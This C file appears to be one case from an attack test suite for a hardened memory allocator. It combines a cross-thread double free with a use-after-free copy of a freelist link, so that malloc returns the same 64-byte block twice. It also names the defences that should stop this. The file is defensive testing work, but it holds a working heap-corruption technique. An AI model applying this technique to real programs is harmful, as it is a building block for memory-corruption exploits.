/* df_owner_remote_replay: owner free, then a second free of the same block
 * from another thread, turned into a block handed out twice by replaying
 * one link (64-byte blocks).
 *
 * Bug modelled: a double free (owner thread, then another thread) plus a
 * use-after-free read of a freed block whose value the program then stores
 * in its own live block.
 *
 * Why: the remote free pushes p onto thread_free without any check; when the
 * owner collects it, p's link is set to local_free's head, making the cycle
 * p -> q -> p. The secure build clears the first word of every block it
 * hands out, so the second pop of p would decode 0 and abort
 * (df_owner_remote_small); but the program writes p's first word, and a
 * copy of q's link (q -> p) stored at p decodes to p ^ q ^ p = q: valid.
 *
 * Steps:
 *  1. free(p), free(q) on the owner (local_free q -> p), then free(p) from
 *     another thread.
 *  2. malloc(64) until p comes back; then *p = *q (q is still free).
 *  3. malloc(64) on.
 * WIN: p is handed out a second time while live.
 * Defence that should stop it: check remote frees against the block's free
 * state (bitmap), or detect the cycle when the remote list is spliced into
 * local_free; a MAC'd link would make the copied value invalid. */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */
#include <pthread.h>

#define SIZE 64

static void* free_it(void* p) {
  free(p);
  return NULL;
}

int main(void) {
  start(10);
  static uintptr_t got[4200];
  int n = 0;
  for (int i = 0; i < 8; i++) got[n++] = (uintptr_t)hide(malloc(SIZE));
  uintptr_t p = got[5], q = 0;
  for (int i = 0; i < 8; i++)
    if (i != 5 && (got[i] >> 16) == (p >> 16)) q = got[i];
  if (q == 0) lost("no second block in p's page");
  got[5] = 0;
  for (int i = 0; i < n; i++) if (got[i] == q) got[i] = 0;
  free(hide((void*)p));
  free(hide((void*)q));
  pthread_t t;
  pthread_create(&t, NULL, free_it, (void*)p); /* the double free */
  pthread_join(t, NULL);
  int seen_p = 0;
  for (int k = 0; k < 4096; k++) {
    uintptr_t r = (uintptr_t)hide(malloc(SIZE));
    if (r == p && seen_p) win("malloc(%d) returned %p a second time while it is still allocated", SIZE, (void*)r);
    if (r == p) {
      seen_p = 1;
      poke((void*)p, peek((void*)q)); /* the program stores a value read from freed q */
    }
    for (int j = 0; j < n; j++)
      if (got[j] == r) win("malloc(%d) returned %p a second time while it is still allocated", SIZE, (void*)r);
    got[n++] = r;
  }
  lost("p came back at most once");
}
